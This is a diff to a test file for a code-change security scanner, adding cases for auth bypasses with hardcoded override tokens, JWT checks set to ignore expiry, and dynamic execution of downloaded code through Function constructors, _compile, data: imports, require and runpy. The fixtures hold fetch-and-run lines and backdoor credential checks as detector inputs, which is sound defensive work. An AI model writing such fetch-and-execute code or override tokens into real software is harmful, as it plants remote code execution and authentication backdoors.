@@ -3020,13 +3020,15 @@ describe('auth-bypass-added: an empty credential let through; protection-switche
     expect(ids('app/auth.py', ['    return not token or check_token(token)'])).toContain('auth-bypass-added:medium');
     expect(ids('src/Auth/Guard.php', ["        return $token === '' || hash_equals($expected, $token);"])).toContain('auth-bypass-added:medium');
     expect(ids('src/middleware/sig.js', ['  if (!signature || verifySignature(req)) return next();'])).toContain('auth-bypass-added:medium');
-    expect(ids('app/controllers/hooks_controller.rb', ['    return true if token.blank? || valid_token?(token)'])).toContain('auth-bypass-added:medium');
+    expect(ids('app/controllers/hooks_controller.rb', ['    return true if token.blank? || verify_token?(token)'])).toContain('auth-bypass-added:medium');
   });
 
   it('is quiet on the reject path, a predicate about emptiness, a name that is no credential, and an if whose branch rejects', () => {
     expect(ids('src/middleware/sig.js', ['  if (!signature || !verify(body, signature)) return res.status(401).end();'])).toEqual([]);
     expect(ids('src/lex.ts', ['  return token == null || token.length === 0;'])).toEqual([]);
     expect(ids('src/users.ts', ['  return !user || isValid(user);'])).toEqual([]);
+    // An optional field's format validator: empty is allowed, given is checked for its shape.
+    expect(ids('src/forms.ts', ['  return !apiKey || isValidApiKey(apiKey);'])).toEqual([]);
     expect(ids('internal/hook/verify.go', ['\tif sig == "" || !hmac.Equal(a, b) {'])).toEqual([]);
   });
 
@@ -3111,5 +3113,60 @@ describe('downloaded-binary-run in program code: download, chmod, start in one h
     expect(dropper('pkg/hooks.py', ['    os.chmod(hook, 0o755)', '    subprocess.run([hook], check=True)'])).toEqual([]);
     expect(dropper('pkg/fetch.py', ['    urllib.request.urlretrieve(url, p)', '    os.chmod(p, 0o755)', '    return p'])).toEqual([]);
     expect(dropper('setup.py', ['urllib.request.urlretrieve(url, p)', 'os.chmod(p, 0o755)', 'subprocess.Popen([p])'])).toEqual([]);
+  });
+});
+
+describe('auth-bypass-added: a fixed value accepted besides the real check; protection-switched-off: a check told to ignore', () => {
+  const ids = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).map((f) => `${f.id}:${f.severity}`);
+
+  it('reports a token, key or signature compared with a fixed value and or-ed with a verifying call, either side first', () => {
+    expect(ids('src/auth.rs', ['    token == "maint-2025-override" || store::valid(token)'])).toContain('auth-bypass-added:medium');
+    expect(ids('src/main/java/acme/ApiAuth.java', ['    return "k3y-0verride-77".equals(apiKey) || Keys.valid(apiKey);'])).toContain('auth-bypass-added:medium');
+    expect(ids('app/auth.py', ['    return signature == "debug-signature" or verify_signature(body, signature)'])).toContain('auth-bypass-added:medium');
+  });
+
+  it('is quiet on a lexer comparing a token with a keyword, and a fixed value with no verifying call beside it', () => {
+    expect(ids('src/parse.ts', ['  if (token === "return" || isKeyword(token)) {'])).toEqual([]);
+    expect(ids('src/parse.ts', ['  if (token === "function" || token === "return") {'])).toEqual([]);
+    expect(ids('src/cli.ts', ['  const verbose = mode === "verbose-all" || flags.includes("-v");'])).toEqual([]);
+    expect(ids('src/keys.ts', ['  if (key === "Escape" || checkKey(key)) return close();'])).toEqual([]);
+  });
+
+  it('reports a token or certificate check told to ignore expiry, validity or signature; not the options that keep it', () => {
+    expect(ids('src/auth.ts', ['export const claims = (t: string) => jwt.verify(t, KEY, { algorithms: ["RS256"], ignoreExpiration: true });'])).toEqual(['protection-switched-off:medium']);
+    expect(ids('app/auth.py', ['    opts = TokenOptions(ignore_not_before=True)'])).toEqual(['protection-switched-off:medium']);
+    expect(ids('src/auth.ts', ['export const claims = (t: string) => jwt.verify(t, KEY, { algorithms: ["RS256"], ignoreExpiration: false, clockTolerance: 5 });'])).toEqual([]);
+    expect(ids('src/lint.ts', ['const options = { ignoreCase: true, ignoreComments: true };'])).toEqual([]);
+  });
+});
+
+describe('dynamic-code-execution: eval by the other constructors and loaders of JavaScript', () => {
+  const sink = (lines: readonly string[]) => scan([makeFile('src/sync.js', { patch: hunk(lines) })]).filter((f) => f.id === 'dynamic-code-execution').map((f) => f.severity);
+  const FETCH = "  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();";
+
+  it('reads the async function constructor, Reflect.construct(Function), constructor.constructor, _compile and a data: import as eval (high beside a download)', () => {
+    expect(sink([FETCH, '  const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;', '  await new AsyncFunction(code)();'])).toEqual(['high']);
+    expect(sink([FETCH, '  Reflect.construct(Function, [code])();'])).toEqual(['high']);
+    expect(sink([FETCH, '  [].constructor.constructor(code)();'])).toEqual(['high']);
+    expect(sink([FETCH, '  m._compile(code, "x.js");'])).toEqual(['high']);
+    expect(sink([FETCH, "  await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'));"])).toEqual(['high']);
+  });
+
+  it('is quiet on an async function, another constructor, a module imported by path and a constructor name read', () => {
+    expect(sink(['const load = async function () { return 1; };', 'const d = Reflect.construct(Date, [2020, 1, 1]);', "const m = await import('./plugins/' + name + '.js');", 'const kind = value.constructor.name;'])).toEqual([]);
+  });
+});
+
+describe('dynamic-code-execution: downloaded code written to a file and loaded as a module', () => {
+  const sink = (path: string, lines: readonly string[]) => scan([makeFile(path, { patch: hunk(lines) })]).filter((f) => f.id === 'dynamic-code-execution').map((f) => f.severity);
+
+  it('reports a download written to a file that the hunk then requires, imports or runs with runpy', () => {
+    expect(sink('src/sync.js', ["  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();", "  const f = path.join(os.tmpdir(), 'c.js');", '  fs.writeFileSync(f, code);', '  require(f);'])).toEqual(['high']);
+    expect(sink('pkg/update.py', ['    body = requests.get("http://203.0.113.9/u.py").text', '    with open(target, "w") as fh:', '        fh.write(body)', '    runpy.run_path(target)'])).toEqual(['critical']);
+  });
+
+  it('is quiet on a download saved as data, and on a module loaded by a literal path beside a download', () => {
+    expect(sink('src/cache.js', ["  const data = await (await fetch('https://api.acme.dev/x')).text();", "  fs.writeFileSync('cache.json', data);", '  return JSON.parse(data);'])).toEqual([]);
+    expect(sink('src/cache.js', ["  const data = await (await fetch('https://api.acme.dev/x')).text();", "  fs.writeFileSync('cache.json', data);", "  const cfg = require('./config.js');"])).toEqual([]);
   });
 });
